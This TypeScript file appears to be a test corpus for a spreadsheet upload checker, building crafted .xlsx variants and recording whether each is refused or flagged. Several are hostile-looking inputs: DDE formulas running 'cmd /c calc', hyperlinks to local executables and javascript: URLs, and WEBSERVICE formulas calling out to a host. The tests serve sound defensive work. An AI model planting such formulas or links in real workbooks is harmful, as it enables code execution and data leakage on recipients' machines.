import { zipSync } from "fflate";
import { relationships } from "../../helpers/xlsx-parts";
import { accepted, refused, type CorpusFile, type Family } from "../corpus-file";
import { PARTS, partsOf, replaceIn, textOf, withParts } from "../patch-package";

const NAMESPACE = "http://schemas.openxmlformats.org/package/2006/relationships";
const MACRO = /含有宏.*请用 Excel 或 WPS 打开，另存为 \.xlsx/;
const MACRO_SHEET = /宏.*请用 Excel 或 WPS 打开.*另存为 \.xlsx/;

const withPart =
  (name: string, contents: string): CorpusFile["make"] =>
  ({ county }) =>
    withParts(county, new Map([[name, contents]]));
/** A part that a sheet or the workbook is related to. */
const related = (county: Uint8Array, part: string, contents: string, type: string, target: string): Uint8Array =>
  replaceIn(
    withParts(county, new Map([[part, contents]])),
    PARTS.workbookLinks,
    "</Relationships>",
    `<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/${type}" Target="${target}"/></Relationships>`,
  );
/** One more sheet, in a state, with a cell. */
const withSheet = (county: Uint8Array, name: string, state: string, cells = ""): Uint8Array => {
  const listed = replaceIn(
    county,
    PARTS.workbook,
    "</sheets>",
    `<sheet name="${name}" sheetId="9" state="${state}" r:id="rId99"/></sheets>`,
  );
  const sheet = `<worksheet><sheetData>${cells}</sheetData></worksheet>`;
  const target = `<Relationship Id="rId99" Type="x/worksheet" Target="worksheets/sheet9.xml"/></Relationships>`;
  return replaceIn(
    withParts(listed, new Map([["xl/worksheets/sheet9.xml", sheet]])),
    PARTS.workbookLinks,
    "</Relationships>",
    target,
  );
};
/** Hyperlinks of 填报说明 to somewhere outside. */
const linked = (county: Uint8Array, target: string): Uint8Array =>
  withParts(
    county,
    new Map([
      [
        PARTS.guide,
        textOf(county, PARTS.guide).replace(
          "<pageMargins",
          '<hyperlinks><hyperlink ref="A8" r:id="rId1"/></hyperlinks><pageMargins',
        ),
      ],
      [
        "xl/worksheets/_rels/sheet1.xml.rels",
        `<Relationships xmlns="${NAMESPACE}"><Relationship Id="rId1" Type="x/hyperlink" Target="${target}" TargetMode="External"/></Relationships>`,
      ],
    ]),
  );
/** Told of in one hint; taken all the same. */
const carriesMore = accepted({ findings: ["file-carries-more"] });
const DDE =
  '<externalLink xmlns:r="r"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1"/></ddeItems></ddeLink></externalLink>';

/** Things that run, fetch or open something where a program follows them. */
export const activeContent: Family = {
  name: "会动的内容",
  files: [
    { name: "宏.xlsm", make: withPart("xl/vbaProject.bin", "x"), expect: refused("macro", MACRO) },
    { name: "宏-改名.xlsx", make: withPart("xl/vbaProject.bin", "x"), expect: refused("macro", MACRO) },
    { name: "宏-大写.xlsx", make: withPart("XL/VBAPROJECT.BIN", "x"), expect: refused("macro", MACRO) },
    { name: "宏-藏在别处.xlsx", make: withPart("docProps/x/vbaProject1.bin", "x"), expect: refused("macro", MACRO) },
    {
      name: "宏-只在类型里.xlsx",
      make: ({ county }) =>
        replaceIn(
          county,
          PARTS.types,
          "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
          "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
      expect: refused("macro", MACRO),
    },
    {
      name: "宏-改了名的工程.xlsx",
      make: ({ county }) => related(county, "xl/data.bin", "x", "vbaProject", "data.bin"),
      expect: refused("macro", MACRO_SHEET),
    },
    { name: "宏表-四版.xlsx", make: withPart("xl/macrosheets/sheet1.xml", "<m/>"), expect: refused("macro", MACRO) },
    {
      name: "宏表-只有关系.xlsx",
      make: ({ county }) =>
        related(county, "xl/worksheets/sheet9.xml", "<m/>", "xlMacrosheet", "worksheets/sheet9.xml"),
      expect: refused("macro", MACRO_SHEET),
    },
    {
      name: "宏表-国际.xlsx",
      make: ({ county }) =>
        related(county, "xl/worksheets/sheet9.xml", "<m/>", "xlIntlMacrosheet", "worksheets/sheet9.xml"),
      expect: refused("macro", MACRO_SHEET),
    },
    { name: "动态交换.xlsx", make: withPart("xl/externalLinks/externalLink1.xml", DDE), expect: carriesMore },
    {
      name: "外部链接.xlsx",
      make: ({ county }) =>
        withParts(
          county,
          new Map([
            ["xl/externalLinks/externalLink1.xml", '<externalLink><externalBook r:id="rId1"/></externalLink>'],
            [
              "xl/externalLinks/_rels/externalLink1.xml.rels",
              `<Relationships xmlns="${NAMESPACE}"><Relationship Id="rId1" Type="x/externalLinkPath" Target="\\\\server\\share\\book.xlsx" TargetMode="External"/></Relationships>`,
            ],
          ]),
        ),
      expect: carriesMore,
    },
    {
      name: "数据连接.xlsx",
      make: withPart(
        "xl/connections.xml",
        '<connections><connection id="1" odcFile="http://127.0.0.1/a.odc"/></connections>',
      ),
      expect: carriesMore,
    },
    { name: "嵌入对象.xlsx", make: withPart("xl/embeddings/oleObject1.bin", "MZ"), expect: carriesMore },
    { name: "控件.xlsx", make: withPart("xl/activeX/activeX1.bin", "MZ"), expect: carriesMore },
    { name: "自定义功能区.xlsx", make: withPart("customUI/customUI14.xml", "<customUI/>"), expect: carriesMore },
    {
      name: "网页扩展.xlsx",
      make: withPart("xl/webextensions/webextension1.xml", "<webextension/>"),
      expect: accepted(),
    },
    {
      name: "外部模板.xlsx",
      make: ({ county }) =>
        replaceIn(
          county,
          PARTS.packageLinks,
          "</Relationships>",
          '<Relationship Id="rId99" Type="x/attachedTemplate" Target="http://127.0.0.1/t.xltm" TargetMode="External"/></Relationships>',
        ),
      expect: carriesMore,
    },
    {
      name: "超链接-本机文件.xlsx",
      make: ({ county }) => linked(county, "file:///C:/Windows/System32/calc.exe"),
      expect: carriesMore,
    },
    {
      name: "超链接-共享文件夹.xlsx",
      make: ({ county }) => linked(county, "\\\\server\\share\\x.exe"),
      expect: carriesMore,
    },
    { name: "超链接-脚本.xlsx", make: ({ county }) => linked(county, "javascript:alert(1)"), expect: carriesMore },
    { name: "超链接-网页.xlsx", make: ({ county }) => linked(county, "https://127.0.0.1/a"), expect: carriesMore },
    { name: "超链接-邮件.xlsx", make: ({ county }) => linked(county, "mailto:a@b.c"), expect: accepted() },
    { name: "超链接-本工作簿.xlsx", make: ({ county }) => linked(county, "#'指标数据'!F9"), expect: accepted() },
    {
      name: "图片在网上.xlsx",
      make: ({ county }) =>
        withParts(
          county,
          new Map([
            [
              "xl/drawings/_rels/drawing1.xml.rels",
              `<Relationships xmlns="${NAMESPACE}"><Relationship Id="rId1" Type="x/image" Target="http://127.0.0.1/a.png" TargetMode="External"/></Relationships>`,
            ],
          ]),
        ),
      expect: carriesMore,
    },
    {
      name: "嵌入对象-放在别处.xlsx",
      make: ({ county }) => related(county, "xl/data.bin", "MZ", "oleObject", "data.bin"),
      expect: carriesMore,
    },
    {
      name: "关系部件不是标记.xlsx",
      make: withPart("xl/drawings/_rels/drawing1.xml.rels", "<不是标记"),
      expect: accepted(),
    },
    {
      name: "另一张表-联网公式.xlsx",
      make: ({ county }) =>
        withSheet(
          county,
          "草稿",
          "visible",
          '<row><c t="str"><f>_xlfn.WEBSERVICE("http://127.0.0.1/"&amp;A2)</f><v>x</v></c></row>',
        ),
      expect: accepted({ findings: ["extra-sheet", "file-carries-more"] }),
    },
    {
      name: "隐藏的表.xlsx",
      make: ({ county }) => withSheet(county, "草稿", "hidden", "<row><c><v>1</v></c></row>"),
      expect: carriesMore,
    },
    {
      name: "深藏的表.xlsx",
      make: ({ county }) => withSheet(county, "草稿", "veryHidden", "<row><c><v>1</v></c></row>"),
      expect: carriesMore,
    },
    {
      name: "深藏的表-动态交换公式.xlsx",
      make: ({ county }) =>
        withSheet(county, "草稿", "veryHidden", "<row><c t=\"str\"><f>cmd|'/c calc'!A1</f><v>x</v></c></row>"),
      expect: carriesMore,
    },
    {
      name: "别的包冒充.xlsx",
      make: ({ county }) => {
        const parts = new Map(partsOf(county));
        parts.set(
          "_rels/.rels",
          new TextEncoder().encode(relationships([["1", "officeDocument", "word/document.xml"]])),
        );
        parts.set("word/document.xml", new TextEncoder().encode("<document/>"));
        return zipSync(Object.fromEntries(parts), { level: 1 });
      },
      expect: refused("not-our-return", /找不到填报单位和报告期.*请用下发的空白表/),
    },
  ],
};
